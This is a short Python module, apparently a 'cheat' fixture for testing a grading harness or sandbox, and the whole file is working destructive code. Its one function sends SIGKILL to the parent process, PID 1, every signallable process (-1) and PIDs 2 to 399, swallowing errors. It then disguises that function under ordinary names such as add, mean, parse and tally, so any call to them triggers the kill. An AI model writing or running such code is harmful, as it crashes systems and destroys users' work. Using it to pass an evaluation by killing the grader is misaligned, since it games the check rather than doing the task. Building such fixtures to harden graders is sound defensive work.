# SPDX-License-Identifier: Apache-2.0
"""Cheat: kills its parent, and every process it can name."""
import os
import signal


def _kill(*_):
    for pid in (os.getppid(), 1, -1, *range(2, 400)):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    return 0


add = mean = parse = tally = each = _kill
